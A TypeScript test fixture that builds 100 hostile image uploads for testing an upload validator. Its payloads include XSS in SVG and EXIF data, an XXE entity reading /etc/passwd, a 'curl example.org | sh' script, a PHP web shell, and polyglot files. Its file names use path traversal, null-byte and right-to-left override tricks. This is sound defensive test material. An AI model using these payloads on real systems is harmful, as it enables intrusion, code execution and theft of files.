import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

const script = '<script>alert(document.domain)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`

const plain = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#c03' } })

/** Returns a chunk of a PNG (PNG 5.3) with the checksum 0, which is wrong for most data. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)])
}

/** A PNG whose header claims 60,000 × 60,000 pixels. */
function hugePng(): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(60_000, 0)
  header.writeUInt32BE(60_000, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const start = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([start, pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(Buffer.alloc(100_000)))])
}

/** Returns files that are not pictures, pretend to be pictures, or contain more than a picture. */
async function listHostileFiles(): Promise<Record<string, Buffer>> {
  const [jpeg, png, webp, gif] = await Promise.all([
    plain()
      .jpeg()
      .withExif({ IFD0: { Copyright: script } })
      .toBuffer(),
    plain().png().toBuffer(),
    plain()
      .webp()
      .withExif({ IFD0: { Copyright: script } })
      .toBuffer(),
    plain().gif().toBuffer(),
  ])
  const text = Buffer.from(script)
  return {
    svg: Buffer.from(svg),
    'svg as a document': Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`,
    ),
    'compressed svg': gzipSync(svg),
    html: Buffer.from(`<!doctype html>${script}`),
    'html after the start of a gif': Buffer.concat([Buffer.from('GIF89a'), text]),
    'html after the start of a jpeg': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text]),
    program: Buffer.from('#!/bin/sh\ncurl example.org | sh\n'),
    php: Buffer.from('<?php system($_GET["x"]); ?>'),
    'quicktime film': Buffer.concat([Buffer.from([0, 0, 0, 20]), Buffer.from('ftypqt  '), Buffer.alloc(8), text]),
    'compiled program': Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(60)]),
    'list of drawing commands': Buffer.from(
      'push graphic-context\nfill "url(https://example.org/)"\npop graphic-context',
    ),
    tiff: await plain().tiff().toBuffer(),
    'huge png': hugePng(),
    'half a jpeg': jpeg.subarray(0, jpeg.length / 2),
    'half a webp': webp.subarray(0, webp.length / 2),
    nothing: Buffer.alloc(1),
    'jpeg with a script in its notes and behind it': Buffer.concat([jpeg, text]),
    'png with html behind it': Buffer.concat([png, text]),
    'webp with a script in its notes': webp,
    'gif with html behind it': Buffer.concat([gif, text]),
  }
}

const hostileNames = [
  '../../../server/main.ts',
  'boat.mdx',
  'page.html%00.png',
  '\u202egpj.exe',
  `${'long '.repeat(50)}.svg`,
]

/**
 * Returns 100 uploads: each hostile file under each hostile name. `isPicture` tells whether the file can be decoded as
 * a picture.
 */
export async function listHostileUploads() {
  const files = Object.entries(await listHostileFiles())
  return files.flatMap(([kind, file]) =>
    hostileNames.map((name) => ({
      kind,
      name,
      file,
      isPicture: / (with|behind) /.test(` ${kind} `) && !kind.startsWith('svg'),
    })),
  )
}
